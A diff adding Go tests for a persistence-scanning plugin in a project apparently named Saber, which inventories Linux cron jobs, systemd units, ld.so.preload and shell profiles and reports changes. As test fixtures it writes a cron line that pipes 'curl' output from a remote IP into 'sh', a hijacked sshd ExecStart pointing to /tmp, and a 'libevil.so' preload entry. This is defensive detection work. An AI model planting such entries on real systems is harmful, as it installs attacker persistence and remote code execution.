@@ -0,0 +1,166 @@
+/**
+ * Copyright 2025 Saber authors.
+ *
+ * Licensed under the Apache License, Version 2.0 (the "License");
+ * you may not use this file except in compliance with the License.
+ * You may obtain a copy of the License at
+ *
+ *     http://www.apache.org/licenses/LICENSE-2.0
+ *
+ * Unless required by applicable law or agreed to in writing, software
+ * distributed under the License is distributed on an "AS IS" BASIS,
+ * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+ * See the License for the specific language governing permissions and
+ * limitations under the License.
+**/
+
+package persistence
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"os-artificer/saber/pkg/sbmodels"
+)
+
+func writeFile(t *testing.T, root, path, content string) {
+	t.Helper()
+	full := filepath.Join(root, path)
+	if err := os.MkdirAll(filepath.Dir(full), 0755); err != nil {
+		t.Fatalf("mkdir %s: %v", path, err)
+	}
+	if err := os.WriteFile(full, []byte(content), 0644); err != nil {
+		t.Fatalf("write %s: %v", path, err)
+	}
+}
+
+func newTestRoot(t *testing.T) string {
+	root := t.TempDir()
+	writeFile(t, root, "/etc/crontab", "SHELL=/bin/sh\n# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
+	writeFile(t, root, "/etc/cron.daily/logrotate", "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n")
+	writeFile(t, root, "/var/spool/cron/crontabs/alice", "*/5 * * * * /home/alice/bin/sync\n")
+	writeFile(t, root, "/usr/lib/systemd/system/sshd.service", "[Unit]\nDescription=OpenSSH\n[Service]\nExecStart=/usr/sbin/sshd -D\nRestart=always\n")
+	writeFile(t, root, "/etc/systemd/system/backup.timer", "[Timer]\nOnCalendar=daily\nUnit=backup.service\n")
+	writeFile(t, root, "/etc/systemd/system/sshd.service.d/override.conf", "[Service]\nExecStartPre=/usr/local/bin/hook\n")
+	writeFile(t, root, "/etc/systemd/system/README", "not a unit\n")
+	writeFile(t, root, "/etc/ld.so.preload", "/usr/lib/libevil.so\n")
+	writeFile(t, root, "/etc/modules-load.d/net.conf", "# modules\nbr_netfilter\n")
+	writeFile(t, root, "/root/.bashrc", "alias ll='ls -l'\n")
+	writeFile(t, root, "/home/bob/.profile", "export PATH=$HOME/bin:$PATH\n")
+
+	// Merged /usr: /lib is a symlink to /usr/lib, so units must not be reported twice.
+	if err := os.Symlink("usr/lib", filepath.Join(root, "lib")); err != nil {
+		t.Fatalf("symlink: %v", err)
+	}
+	// A masked unit.
+	if err := os.Symlink("/dev/null", filepath.Join(root, "etc/systemd/system/auditd.service")); err != nil {
+		t.Fatalf("symlink: %v", err)
+	}
+	return root
+}
+
+func TestScan(t *testing.T) {
+	root := newTestRoot(t)
+	opts, err := OptionsFromAny(map[string]any{"root": root})
+	if err != nil {
+		t.Fatalf("OptionsFromAny: %v", err)
+	}
+
+	entries := (&scanner{opts: &opts}).scan()
+
+	want := map[string]string{
+		"/etc/crontab":                                     sbmodels.PersistenceKindCron,
+		"/etc/cron.daily/logrotate":                        sbmodels.PersistenceKindCron,
+		"/var/spool/cron/crontabs/alice":                   sbmodels.PersistenceKindCron,
+		"/usr/lib/systemd/system/sshd.service":             sbmodels.PersistenceKindSystemdUnit,
+		"/etc/systemd/system/backup.timer":                 sbmodels.PersistenceKindSystemdTimer,
+		"/etc/systemd/system/sshd.service.d/override.conf": sbmodels.PersistenceKindSystemdUnit,
+		"/etc/systemd/system/auditd.service":               sbmodels.PersistenceKindSystemdUnit,
+		"/etc/ld.so.preload":                               sbmodels.PersistenceKindLDPreload,
+		"/etc/modules-load.d/net.conf":                     sbmodels.PersistenceKindModuleAutoload,
+		"/root/.bashrc":                                    sbmodels.PersistenceKindShellProfile,
+		"/home/bob/.profile":                               sbmodels.PersistenceKindShellProfile,
+	}
+	if len(entries) != len(want) {
+		for path := range entries {
+			t.Logf("entry %s", path)
+		}
+		t.Fatalf("got %d entries, want %d", len(entries), len(want))
+	}
+	for path, kind := range want {
+		e, ok := entries[path]
+		if !ok || e.Kind != kind {
+			t.Fatalf("entry %s = %+v, want kind %s", path, e, kind)
+		}
+	}
+
+	if e := entries["/etc/crontab"]; len(e.Directives) != 2 || e.SHA256 == "" {
+		t.Fatalf("crontab = %+v", e)
+	}
+	if e := entries["/var/spool/cron/crontabs/alice"]; e.User != "alice" {
+		t.Fatalf("user crontab = %+v", e)
+	}
+	if e := entries["/usr/lib/systemd/system/sshd.service"]; len(e.Directives) != 1 || e.Directives[0] != "ExecStart=/usr/sbin/sshd -D" {
+		t.Fatalf("unit = %+v", e)
+	}
+	if e := entries["/etc/systemd/system/backup.timer"]; len(e.Directives) != 2 {
+		t.Fatalf("timer = %+v", e)
+	}
+	if e := entries["/etc/systemd/system/auditd.service"]; e.LinkTarget != "/dev/null" || e.SHA256 != "" {
+		t.Fatalf("masked unit = %+v", e)
+	}
+	if e := entries["/etc/modules-load.d/net.conf"]; len(e.Directives) != 1 || e.Directives[0] != "br_netfilter" {
+		t.Fatalf("modules-load = %+v", e)
+	}
+}
+
+func TestPersistencePlugin_diff(t *testing.T) {
+	root := newTestRoot(t)
+
+	p, err := newPersistencePlugin(context.Background(), map[string]any{"root": root, "interval": "20ms"})
+	if err != nil {
+		t.Fatalf("newPersistencePlugin: %v", err)
+	}
+	defer p.Close()
+
+	eventC, err := p.Run(context.Background())
+	if err != nil {
+		t.Fatalf("Run: %v", err)
+	}
+
+	first := <-eventC
+	if inv, ok := first.Data.(*sbmodels.PersistenceInventory); !ok || len(inv.Entries) != 11 {
+		t.Fatalf("inventory = %+v", first)
+	}
+
+	writeFile(t, root, "/etc/cron.d/updater", "* * * * * root curl -s http://203.0.113.9/x | sh\n")
+	writeFile(t, root, "/usr/lib/systemd/system/sshd.service", "[Service]\nExecStart=/tmp/sshd -D\n")
+	if err := os.Remove(filepath.Join(root, "etc/ld.so.preload")); err != nil {
+		t.Fatalf("remove: %v", err)
+	}
+
+	got := make(map[string]*sbmodels.PersistenceEvent)
+	timeout := time.After(5 * time.Second)
+	for len(got) < 3 {
+		select {
+		case ev := <-eventC:
+			got[ev.EventName] = ev.Data.(*sbmodels.PersistenceEvent)
+		case <-timeout:
+			t.Fatalf("got %v", got)
+		}
+	}
+
+	if ev := got[sbmodels.PersistenceEventAdded]; ev.Entry.Path != "/etc/cron.d/updater" || len(ev.Entry.Directives) != 1 {
+		t.Fatalf("added = %+v", ev.Entry)
+	}
+	if ev := got[sbmodels.PersistenceEventModified]; ev.Entry.Path != "/usr/lib/systemd/system/sshd.service" ||
+		ev.Previous.SHA256 == ev.Entry.SHA256 || ev.Entry.Directives[0] != "ExecStart=/tmp/sshd -D" {
+		t.Fatalf("modified = %+v", ev)
+	}
+	if ev := got[sbmodels.PersistenceEventRemoved]; ev.Entry.Path != "/etc/ld.so.preload" {
+		t.Fatalf("removed = %+v", ev.Entry)
+	}
+}